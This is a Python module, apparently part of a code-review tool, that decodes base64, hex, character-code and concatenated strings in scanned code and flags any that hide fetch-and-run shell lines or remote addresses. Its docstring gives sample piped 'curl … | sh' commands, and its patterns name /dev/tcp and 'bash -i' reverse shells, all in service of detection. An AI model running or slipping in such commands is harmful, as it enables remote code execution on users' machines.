"""Texts of a program that are written so that nobody reads them, and what they say.

Base64, hexadecimal, a list of character codes, pieces that a call joins: what comes out is looked
at like any other text. A shell line that fetches and runs is never written so by somebody who
means well, and an address is not either.

    String(decode("Y3VybCAtcyBodHRwOi8vLi4u"))      curl -s http://... | sh
    String.fromCharCode(...[104, 116, 116, 112])     http
    string.concat("cu", "rl -s https://x | ba", "sh")
"""

from __future__ import annotations

import base64
import binascii
from collections.abc import Iterator
from itertools import islice

from signoff.actions.contents.pattern_parts import FETCH_AND_RUN
from signoff.actions.vocabulary import lazy_re, lazy_re2

_READ = 60_000  # characters
_MOST = 40
_BASE64 = lazy_re2(r"[\"'`]([A-Za-z0-9+/_-]{20,}={0,2})[\"'`]")
_HEXADECIMAL = lazy_re2(r"\b(?:0x)?((?:[0-9a-fA-F]{2}){12,})\b")
_CODES = lazy_re2(
    r"[\[({]\s*((?:(?:0x[0-9a-fA-F]{2}|\d{2,3})\s*,\s*){7,}(?:0x[0-9a-fA-F]{2}"
    r"|\d{2,3}))\s*,?\s*[\])}]"
)
_PIECES = lazy_re2(
    r"(?:\b(?:concat\w*|join|encodePacked|paste0?|strcat|CONCAT)\s*\(\s*"
    r"|\[\s*)((?:[\"'][^\"'\n]*[\"']\s*,\s*){1,20}[\"'][^\"'\n]*[\"'])"
)
_PIECE = lazy_re(r"[\"']([^\"'\n]*)[\"']")
_PRINTABLE = lazy_re(r"[\x09\x0a\x0d\x20-\x7e]{8,}\Z")
_RUNS = lazy_re2(
    rf"(?i){FETCH_AND_RUN}|/dev/tcp/|\bbash\s+-i\b|\b(?:curl"
    rf"|wget)\b[^\n]*\|\s*\w*sh\b"
)
_ADDRESS = lazy_re2(r"(?i)^\s*(?:https?|wss?|ftp)://[\w.-]+\.[\w.-]+")


def hidden_line(text: str) -> str:
    """Return the first hidden text that is a shell line that fetches and runs code, else ""."""
    return next((one for one in _hidden(text[:_READ]) if _RUNS.search(one) is not None), "")


def hides_address(text: str) -> bool:
    """Return whether a hidden text is the address of another machine."""
    return any([_ADDRESS.match(one) is not None for one in _hidden(text[:_READ])])


def _hidden(text: str) -> Iterator[str]:
    for match in islice(_BASE64.finditer(text), _MOST):
        yield from _printable(_from_base64(str(match.group(1))))
    for match in islice(_HEXADECIMAL.finditer(text), _MOST):
        yield from _printable(bytes.fromhex(str(match.group(1))).rstrip(b"\0"))
    for match in islice(_CODES.finditer(text), _MOST):
        yield from _printable(bytes(_numbers(str(match.group(1)))))
    for match in islice(_PIECES.finditer(text), _MOST):
        pieces = "".join(_PIECE.findall(str(match.group(1))))
        # What stands whole in one of the pieces is hidden from nobody.
        if not any([_RUNS.search(one) for one in _PIECE.findall(str(match.group(1)))]):
            yield pieces


def _numbers(text: str) -> list[int]:
    """The character codes of a list, without those that no letter has."""
    found = [one.strip() for one in text.split(",")]
    numbers = [int(one, 16 if one[:2] == "0x" else 10) for one in found if one]
    return [number for number in numbers if number < 128]


def _printable(data: bytes) -> Iterator[str]:
    told = data.decode("latin-1")
    if _PRINTABLE.match(told) is not None:
        yield told


def _from_base64(text: str) -> bytes:
    padded = text.rstrip("=") + "=" * (-len(text.rstrip("=")) % 4)
    try:
        return base64.b64decode(padded.replace("-", "+").replace("_", "/"), validate=True)
    except (binascii.Error, ValueError):
        return b""
